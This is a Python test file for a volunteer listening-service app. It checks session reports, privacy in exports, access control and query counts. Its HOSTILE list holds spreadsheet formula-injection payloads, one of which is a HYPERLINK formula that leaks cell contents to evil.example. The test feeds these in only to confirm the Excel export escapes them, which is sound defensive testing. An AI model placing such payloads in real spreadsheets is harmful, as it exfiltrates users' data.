from __future__ import annotations

import io
from datetime import date, timedelta

import pandas as pd
import pytest
from sqlmodel import select

from listening import reports
from listening.core.clock import today
from listening.core.errors import InvalidInput, NotAllowed
from listening.demo import seed_demo
from listening.models import (
    Account,
    AuditEvent,
    CompletionMethod,
    Resident,
    ShadowSession,
    TrainingCompletion,
    VolunteerStatus,
)
from listening.volunteers.training import curriculum, sync_curriculum
from tests import factories

pytestmark = pytest.mark.instant  # .ci/run runs this module again at the hard instants


@pytest.fixture
def centre(session):
    seed_demo(session)
    session.commit()
    accounts = {a.username: a for a in session.exec(select(Account))}
    return accounts["coordinator"], accounts["volunteer"]


def test_the_session_report_counts_what_was_logged_and_leaves_out_who_said_what(session, centre):
    coordinator, _ = centre
    report = reports.session_report(session, actor=coordinator, start=today() - timedelta(days=120), end=today())
    frame = report.sessions
    assert list(frame.columns) == list(reports.SESSION_COLUMNS)
    assert len(frame) > 100 and 0 < len(report.held) < len(frame)
    assert (report.held["hours"] > 0.5).all() and (frame.loc[frame["outcome"] != "held", "hours"] == 0).all()
    assert 0 < report.residents_heard <= len(report.held)
    # Nothing that identifies a resident or repeats their words.
    text = frame.to_csv()
    for resident in session.exec(select(Resident)):
        assert resident.phone not in text and resident.display_name not in text
    assert "note" not in frame.columns


def test_topics_and_communities_add_up(session, centre):
    coordinator, _ = centre
    report = reports.session_report(session, actor=coordinator, start=today() - timedelta(days=120), end=today())
    topics = reports.topic_counts(report)
    assert topics.sum() == sum(len([t for t in s.split(",") if t]) for s in report.held["topics"])
    community = reports.by_community(report)
    assert community["sessions"].sum() == len(report.held)
    assert community["hours"].sum() == pytest.approx(report.held["hours"].sum(), abs=0.5)


def test_the_dates_are_checked_and_only_coordinators_may_read(session, centre):
    coordinator, volunteer = centre
    with pytest.raises(InvalidInput):
        reports.session_report(session, actor=coordinator, start=date(2026, 5, 2), end=date(2026, 5, 1))
    with pytest.raises(InvalidInput):
        reports.session_report(session, actor=coordinator, start=date(2024, 1, 1), end=date(2026, 1, 1))
    with pytest.raises(NotAllowed):
        reports.session_report(session, actor=volunteer, start=date(2026, 5, 1), end=date(2026, 5, 2))


def test_an_empty_period_is_an_empty_report(session, centre):
    coordinator, _ = centre
    report = reports.session_report(session, actor=coordinator, start=date(2020, 1, 1), end=date(2020, 1, 31))
    assert report.sessions.empty and report.residents_heard == 0
    assert reports.topic_counts(report).empty and reports.by_community(report).empty


def test_the_excel_export_reads_back_and_is_audited(session, centre):
    coordinator, _ = centre
    report = reports.session_report(session, actor=coordinator, start=today() - timedelta(days=120), end=today())
    content = reports.excel_workbook(session, actor=coordinator, sheets={"Sessions": report.sessions})
    session.commit()
    back = pd.read_excel(io.BytesIO(content), sheet_name="Sessions", engine="openpyxl")
    assert len(back) == len(report.sessions) and list(back.columns) == list(reports.SESSION_COLUMNS)
    assert session.exec(select(AuditEvent).where(AuditEvent.action == "report.exported")).one()


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
           "＝1+1"]


def test_no_exported_cell_can_run_as_a_formula_and_numbers_stay_numbers(session, centre):
    """A volunteer named like a formula is text in the coordinator's Excel file, as are all the other starts."""
    from openpyxl import load_workbook

    from listening.models import Volunteer

    coordinator, _ = centre
    volunteers = list(session.exec(select(Volunteer)))
    for volunteer, name in zip(volunteers, HOSTILE, strict=False):
        volunteer.full_name = name
        session.add(volunteer)
    session.commit()
    report = reports.session_report(session, actor=coordinator, start=today() - timedelta(days=120), end=today())
    assert set(report.sessions["volunteer"]) & set(HOSTILE)  # the names did reach the report
    extra = pd.DataFrame({"note": HOSTILE, "change": [-1.5] * len(HOSTILE)})
    content = reports.excel_workbook(session, actor=coordinator, sheets={"Sessions": report.sessions, "Extra": extra})
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    texts = {cell.value for row in workbook["Sessions"].iter_rows(min_row=2) for cell in row}
    assert "'" + HOSTILE[0] in texts and HOSTILE[0] not in texts
    # (a carriage return is written as OOXML's escape _x000D_, which Excel reads back as the carriage return)
    assert [c.value.replace("_x000D_", "\r") for c in workbook["Extra"]["A"][1:]] == ["'" + text for text in HOSTILE]
    assert [c.value for c in workbook["Extra"]["B"][1:]] == [-1.5] * len(HOSTILE)  # a negative number stays a number
    hours = [c.value for c in workbook["Sessions"]["G"][1:]]
    assert all(isinstance(value, (int, float)) for value in hours)


def test_the_figures_summed_in_sql_are_the_per_session_table_s(session, centre):
    coordinator, _ = centre
    start, end = today() - timedelta(days=120), today()
    report = reports.session_report(session, actor=coordinator, start=start, end=end)
    figures = reports.session_figures(session, actor=coordinator, start=start, end=end)
    assert figures.held == len(report.held) > 0
    assert figures.not_held == len(report.sessions) - len(report.held) > 0
    assert figures.residents_heard == report.residents_heard
    assert figures.hours == pytest.approx(round(report.held["hours"].sum(), 1), abs=0.051)
    assert figures.topics.to_dict() == reports.topic_counts(report).to_dict()
    expected = reports.by_community(report).set_index("community")
    got = figures.by_community.set_index("community")
    assert got["sessions"].to_dict() == expected["sessions"].to_dict()
    assert list(figures.by_community["sessions"]) == sorted(figures.by_community["sessions"], reverse=True)
    for code in expected.index:
        assert got.loc[code, "hours"] == pytest.approx(expected.loc[code, "hours"], abs=0.051)
        assert got.loc[code, "mood_change"] == pytest.approx(expected.loc[code, "mood_change"], abs=0.006)


def test_the_figures_cost_the_same_statements_for_a_week_or_a_year(session, centre, engine):
    import sqlalchemy as sa

    coordinator, _ = centre
    counted = []
    listener = lambda *args: counted.append(1)
    sa.event.listen(engine, "before_cursor_execute", listener)
    try:
        sizes = []
        for days in (7, 365):
            counted.clear()
            figures = reports.session_figures(session, actor=coordinator, start=today() - timedelta(days=days),
                                              end=today())
            sizes.append((len(counted), figures.held))
    finally:
        sa.event.remove(engine, "before_cursor_execute", listener)
    (week_statements, week_held), (year_statements, year_held) = sizes
    assert year_held > week_held and week_statements == year_statements <= 5


def test_an_empty_period_has_empty_figures(session, centre):
    coordinator, _ = centre
    figures = reports.session_figures(session, actor=coordinator, start=date(2020, 1, 1), end=date(2020, 1, 31))
    assert (figures.held, figures.not_held, figures.hours, figures.residents_heard) == (0, 0, 0, 0)
    assert figures.topics.empty and figures.by_community.empty


@pytest.fixture
def ladder(session):
    """Four volunteers of status active on four rungs, and one certified volunteer who is paused."""
    coordinator = factories.coordinator(session)
    modules = sync_curriculum(session)
    done_on = today() - timedelta(days=30)
    phones = iter(f"+86139000{k:05d}" for k in range(100, 200))
    rows = {}
    for name in ("申请人", "学员", "观摩中", "在岗", "暂停"):
        rows[name] = factories.volunteer(session, None, name=name, phone=next(phones))[1]
    mentor = rows["在岗"]
    for name, codes in (("学员", [modules[0]]), ("观摩中", modules), ("在岗", modules), ("暂停", modules)):
        for module in codes:
            session.add(TrainingCompletion(volunteer_id=rows[name].id, module_id=module.id, completed_on=done_on,
                                           method=CompletionMethod.attendance))
    for name in ("在岗", "暂停"):
        for k in range(curriculum().shadow_sessions_required):
            session.add(ShadowSession(volunteer_id=rows[name].id, observed_on=done_on - timedelta(days=k + 1),
                                      mentor_id=rows["观摩中"].id if name == "在岗" else mentor.id))
        factories.signed_competencies(session, rows[name], on=done_on)
    rows["暂停"].status = VolunteerStatus.paused
    session.add(rows["暂停"])
    session.commit()
    return coordinator


def test_the_overview_counts_as_active_only_the_volunteers_who_can_be_matched(session, ladder):
    overview = reports.coordinator_overview(session, actor=ladder)
    assert (overview.active_volunteers, overview.volunteers_in_training) == (1, 3)


def test_each_session_s_hours_in_the_export_are_its_logged_length_rounded_to_a_hundredth(session, centre):
    """The export's hours are taken in SQL (a district's year is 47,000 rows): each is the logged length rounded to
    0.01 h as Python would, 0 for a session not held, and their sum is the figures' hours."""
    from listening.models import Outcome, SessionLog, Visit
    from listening.sessions.logs import duration_hours

    coordinator, _ = centre
    start, end = today() - timedelta(days=120), today()
    logs = session.exec(select(SessionLog, Visit.starts_at).join(Visit, Visit.id == SessionLog.visit_id)
                        .order_by(Visit.starts_at)).all()
    report = reports.session_report(session, actor=coordinator, start=start, end=end)
    by_day = report.sessions.groupby("date")["hours"].apply(sorted).to_dict()
    expected: dict = {}
    for log, starts_at in logs:
        day = starts_at.astimezone(reports_tz()).date()
        if start <= day <= end:
            hours = round(duration_hours(log.actual_start, log.actual_end), 2) if log.outcome == Outcome.held else 0
            expected.setdefault(day, []).append(hours)
    assert by_day == {day: sorted(hours) for day, hours in expected.items()}
    figures = reports.session_figures(session, actor=coordinator, start=start, end=end)
    assert figures.hours == round(report.held["hours"].sum(), 1)


def reports_tz():
    from listening.core.config import get_settings

    return get_settings().tz


def test_the_figures_are_three_passes_over_the_period_whatever_its_length(session, centre):
    """Each pass joins a district's year of logs (47,000) to their requests and communities: the counts and the
    residents heard share one."""
    from tests.safeguarding.test_contacts import statements

    coordinator, _ = centre
    for days in (30, 365):
        session.exec(select(Account.id)).first()  # the transaction has begun (SQLite's BEGIN is a statement)
        with statements(session) as seen:
            figures = reports.session_figures(session, actor=coordinator, start=today() - timedelta(days=days),
                                              end=today())
        assert len(seen) == 3 and figures.held + figures.not_held >= 0
